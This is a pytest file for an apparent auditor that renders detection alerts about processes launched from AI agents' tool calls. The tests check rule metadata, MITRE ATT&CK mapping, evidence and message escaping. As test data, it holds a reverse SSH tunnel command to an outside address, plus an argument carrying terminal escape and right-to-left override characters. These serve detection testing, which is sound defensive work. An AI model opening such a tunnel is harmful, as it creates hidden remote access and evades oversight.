"""An alert as a document."""

from __future__ import annotations

import orjson
import pytest

from auditor.lineage.table import Table
from auditor.model.alerts import SEVERITY, Alert, Evidence, Quality, RuleInfo
from auditor.model.records import Flag, Kind
from auditor.sinks.documents import Documents
from tests.builders import (
    make_connect,
    make_exec,
    make_exit,
    make_fork,
    make_gpu_open,
    make_gpu_summary,
    make_gpu_use,
    make_session,
    make_start,
    make_tool_call,
)

SSH = ("ssh", "-N", "-R", "2222:localhost:22", "u@203.0.113.66")
RULE = RuleInfo(
    id="c0ffee00-0000-4000-8000-000000000001",
    name="Reverse SSH tunnel",
    level="high",
    tags=("attack.command-and-control", "attack.t1572", "attack.t1021.004", "cve.2020-1"),
    author="somebody",
    description="It tunnels.",
    references=("https://example.org/",),
    false_positives=("a tunnel that somebody asked for",),
)


def make_alert(rule: RuleInfo = RULE, losses: tuple = (), args: tuple[str, ...] = SSH, *, bare: bool = False) -> Alert:
    """Make the alert of a tunnel, with an event of each kind as evidence; `bare`: of a process hardly known."""
    table = Table()
    for event in (make_start(), make_session(), make_exec(99, ("agent",), call=0, flags=Flag.AGENT)):
        table.apply(event)
    table.apply(make_tool_call())
    first = table.apply(make_exec(flags=Flag.CALL_ROOT))
    deeds = [
        make_fork(101, 100, call=100),
        make_exec(101, args, parent_tgid=100, call=100, comm="renamed", euid=0),
        make_gpu_open(101, call=100),
        make_gpu_use(101, call=100),
        make_gpu_summary(101, call=100),
        make_exit(101, call=100, status=9),
        make_connect(101, call=100),
    ]
    if bare:
        deeds = [make_connect(500, session=0, call=0, label_source=0)]
    evidence = []
    for event in deeds:
        process = table.apply(event)
        evidence.append(Evidence(event, process, "stage", process.args, process.executable))
    process.elided = 0 if bare else 2
    return Alert(
        id="a1",
        time_ns=deeds[-1].time_ns,
        rule=rule,
        process=process,
        tree=(process,) if bare else (first, process),
        session=process.session,
        call=process.call,
        evidence=tuple(evidence),
        quality=Quality(losses, lineage_complete=not bare, args_truncated=False, label_source="inherited"),
    )


def document(alert: Alert) -> dict:
    """Render an alert, and parse it."""
    documents = Documents()
    documents.begin(make_start())
    return orjson.loads(documents.alert(alert))


def test_what_a_siem_needs_is_there() -> None:
    """Kind, rule, level, severity, session, tool call and tree stand where they are documented."""
    alert = document(make_alert())
    assert alert["event"]["kind"] == "alert"
    assert alert["event"]["severity"] == SEVERITY["high"]
    assert (alert["rule"]["id"], alert["rule"]["name"]) == (RULE.id, RULE.name)
    assert alert["rule"]["author"] == ["somebody"]
    assert alert["auditor"]["rule"]["level"] == "high"
    assert (alert["auditor"]["session"]["id"], alert["auditor"]["tool_call"]["id"]) == ("s1", "t1")
    assert alert["auditor"]["tool_call"]["command"] == ["bash", "-c", "id"]
    tree = [(node["pid"], node["executable"], node["args"]) for node in alert["auditor"]["tree"]]
    assert tree == [(100, "/usr/bin/bash", ["bash", "-c", "id"]), (101, "/usr/bin/ssh", list(SSH))]
    assert alert["host"] == {"hostname": "node-1"}


def test_threat_names_techniques_and_tactics() -> None:
    """MITRE's techniques, sub-techniques and tactics stand apart, and other tags are no threat."""
    assert document(make_alert())["threat"] == {
        "framework": "MITRE ATT&CK",
        "tactic": {"name": ["command-and-control"]},
        "technique": {"id": ["T1572", "T1021"], "subtechnique": {"id": ["T1021.004"]}},
    }
    assert "threat" not in document(make_alert(RuleInfo("r", "R", "low", ("cve.2020-1",))))


def test_evidence_tells_each_event() -> None:
    """Each event that made the rule fire has its stage, its time, who and what."""
    evidence = document(make_alert())["auditor"]["evidence"]
    assert [item["action"] for item in evidence] == [
        "fork",
        "exec",
        "gpu-open",
        "gpu-use",
        "gpu-summary",
        "exit",
        "connect",
    ]
    assert {item["stage"] for item in evidence} == {"stage"}
    assert evidence[0]["executable"] == "/usr/bin/bash"
    assert evidence[1]["args"] == list(SSH)
    assert evidence[2]["device"] == {"id": "/dev/nvidia0"}
    assert evidence[5]["exit_code"] == 137
    assert evidence[6]["destination"] == {"ip": "203.0.113.66", "port": 22, "scope": "external"}
    assert evidence[6]["@timestamp"] == "2026-11-21T10:00:02.010000000Z"


def test_last_event_is_on_top() -> None:
    """What completed the rule stands where it stands in an event of its own."""
    alert = document(make_alert())
    assert alert["event"]["action"] == "connect"
    assert alert["event"]["category"] == ["intrusion_detection", "network"]
    assert alert["destination"] == {"ip": "203.0.113.66", "port": 22}
    assert alert["auditor"]["destination"] == {"scope": "external"}


def test_quality_is_told() -> None:
    """Losses, and whether the lineage is whole, are on the alert."""
    quality = document(make_alert(losses=(("ring.exec", 3),)))["auditor"]["quality"]
    assert quality["losses"] == [{"what": "ring.exec", "count": 3}]
    assert quality["lineage_complete"] is True
    assert quality["label_source"] == "inherited"
    assert document(make_alert())["auditor"]["tree"][1]["elided"] == 2


def test_process_without_a_label_still_alerts() -> None:
    """Without session, call and program, what is known is told."""
    alert = document(make_alert(bare=True))
    assert alert["process"] == {"pid": 500, "entity_id": "00000000.500.5000000000"} | {
        "entity_id": "0b07b07b.500.5000000000"
    }
    assert not {"session", "tool_call"} & alert["auditor"].keys()
    assert alert["message"] == "Reverse SSH tunnel: a process (pid 500)"


def test_message_is_one_line_and_safe() -> None:
    """Control characters that the offender chose are escaped, and a long command is cut."""
    alert = document(make_alert(args=("ssh", "\x1b[2J\n\u202eevil", "x" * 5000)))
    message = alert["message"]
    assert message.isprintable()
    assert len(message) <= 1000
    assert "\\x1b[2J\\n" in message
    assert message.startswith("Reverse SSH tunnel: ssh (pid 101) in tool call t1 of session s1: ssh ")
    assert alert["process"]["args"][1] == "\x1b[2J\n\u202eevil"


@pytest.mark.parametrize("level", SEVERITY)
def test_every_level_has_a_severity(level: str) -> None:
    """Each of Sigma's levels has its number."""
    assert document(make_alert(RuleInfo("r", "R", level)))["event"]["severity"] == SEVERITY[level]


def test_rendering_twice_is_the_same() -> None:
    """The same alert gives the same bytes."""
    documents = Documents()
    alert = make_alert()
    assert documents.alert(alert) == documents.alert(alert)
    assert alert.evidence[-1].event.kind == Kind.CONNECT
